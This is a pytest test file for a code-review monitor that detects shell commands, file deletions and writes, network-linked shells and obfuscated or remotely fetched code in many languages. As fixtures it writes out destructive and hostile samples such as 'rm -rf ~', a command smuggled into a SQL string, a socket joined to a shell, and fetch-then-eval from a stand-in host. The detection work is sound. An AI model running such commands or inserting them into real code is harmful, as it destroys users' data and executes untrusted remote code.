"""Other languages by the calls in their text."""

import pytest

from monitors.review.languages.code.others import uses_of


@pytest.mark.parametrize(
    "code",
    [
        "system('ls -l')",
        'system("ls -l");',
        "exec 'ls -l'",
        "`ls -l`",
        "%x(ls -l)",
        "require('child_process').execSync('ls -l')",
        "os.execute('ls -l')",
        "io.popen('ls -l')",
        "passthru('ls -l');",
        '$x = shell_exec("ls -l");',
        "IO.popen('ls -l')",
        "run(`ls -l`)",
    ],
)
def test_what_it_runs_is_found(code: str) -> None:
    assert "ls -l" in uses_of(code).scripts


@pytest.mark.parametrize(
    "code",
    [
        "FileUtils.rm_rf('/a')",
        "fs.rmSync('/a', {recursive: true})",
        "unlink '/a';",
        "File.delete('/a')",
        "os.remove('/a')",
        "rimraf('/a')",
        'fs.unlinkSync("/a")',
    ],
)
def test_what_it_deletes_is_found(code: str) -> None:
    assert [path.rstrip("/") for path in uses_of(code).deletes] == ["/a"]


@pytest.mark.parametrize(
    "code",
    [
        "fs.writeFileSync('/a', 'x')",
        "file_put_contents('/a', 'x');",
        "io.open('/a', 'w')",
        "File.write('/a', 'x')",
        "fs.createWriteStream('/a')",
        "fopen('/a', 'w')",
    ],
)
def test_what_it_writes_is_found(code: str) -> None:
    assert "/a" in uses_of(code).writes


@pytest.mark.parametrize(
    "code", ["fs.readFileSync('/a')", "File.read('/a')", "io.open('/a', 'r')", "print('x')", "console.log(1)"]
)
def test_reading_is_no_writing(code: str) -> None:
    found = uses_of(code)
    assert (found.writes, found.deletes, found.scripts) == ([], [], [])


def test_a_program_joined_to_a_connection_is_seen() -> None:
    found = uses_of("c=TCPSocket.new('h',1);IO.popen('sh')")
    assert found.runs
    assert found.connects


@pytest.mark.parametrize(
    "code", ["eval(atob('eA=='))", "eval(base64_decode('eA=='));", "exec(Buffer.from('eA==', 'base64'))"]
)
def test_code_that_decodes_and_runs_is_hidden(code: str) -> None:
    assert uses_of(code).hidden


@pytest.mark.parametrize(
    ("code", "script"),
    [
        ("const {execSync: x} = require('child_process'); x('rm -rf ' + process.env.HOME)", "rm -rf ~"),
        ("require('child_process')['ex' + 'ecSync']('ls')", "ls"),
        ("const d = '/a'; require('child_process').execSync(`rm ${d}/b`)", "rm /a/b"),
        ("process.kill(process.ppid, 'SIGKILL')", "kill -9 $PPID"),
        ("Process.kill(9, Process.ppid)", "kill -9 $PPID"),
        ("kill 9, getppid", "kill -9 $PPID"),
        ('std::process::Command::new("rm").args(["-rf", "/a"]).status()', "rm '-rf' '/a'"),
        ('exec.Command("rm", "-rf", "/a").Run()', "rm '-rf' '/a'"),
    ],
)
def test_pieces_are_put_together_before_calls_are_sought(code: str, script: str) -> None:
    assert script in uses_of(code).scripts


def test_joined_paths_are_one() -> None:
    code = "const p = require('path'); fs.rmSync(p.join(os.homedir(), 'x'), {recursive: true})"
    assert uses_of(code).deletes == ["~/x/"]


def test_code_that_runs_what_another_machine_answers_is_hidden() -> None:
    assert uses_of("fetch('https://x.example').then(r => r.text()).then(eval)").hidden


@pytest.mark.parametrize(
    "code",
    [
        'db.exec("DELETE FROM sessions WHERE id = 3");',
        '$pdo->exec("UPDATE a SET x = 1 WHERE id = 2");',
        'db.exec("INSERT OR IGNORE INTO a VALUES (1)");',
        "package main\n\nconst usage = `Usage:\n  rm -rf ~/.app   removes all state\n`\n",
        "// `rm -rf ~/.app` begins again\nexport const x = 1;\n",
    ],
)
def test_statements_of_sql_raw_texts_and_comments_are_no_commands(code: str) -> None:
    assert uses_of(code).scripts == []


@pytest.mark.parametrize(
    "code",
    [
        "$`rm -rf ~`\nexport {}",
        "#!/usr/bin/perl\nsystem('rm -rf ~');",
        'exec("DELETE FROM a WHERE b = 1; rm -rf ~")',
        'exec("SELECT a FROM b WHERE $(rm -rf ~)")',
    ],
)
def test_what_only_looks_like_them_is_run(code: str) -> None:
    assert any("rm -rf ~" in script for script in uses_of(code).scripts)


@pytest.mark.parametrize(
    "code",
    [
        "source('https://x.example/a.R')",
        "devtools::source_url('https://x.example/a.R')",
        'include(download("https://x.example/a.jl"))',
        "include 'http://x.example/a.txt';",
        '(with-current-buffer (url-retrieve-synchronously "http://x.example/a.el") (eval-buffer))',
        "eval(%w[72 6d].map { |x| x.to_i(16).chr }.join)",
        "eval(String.fromCharCode(114, 109))",
    ],
)
def test_code_that_is_loaded_from_elsewhere_or_put_together_of_numbers_is_hidden(code: str) -> None:
    assert uses_of(code).hidden


@pytest.mark.parametrize(
    "code",
    [
        "source('R/util.R')",
        "source('http://localhost:8000/a.R')",
        'puts "41".hex.chr',
        "console.log(String.fromCharCode(65))",
        '(url-retrieve-synchronously "http://x.example/a.json")',
    ],
)
def test_code_of_this_project_and_numbers_that_are_shown_are_not(code: str) -> None:
    assert not uses_of(code).hidden
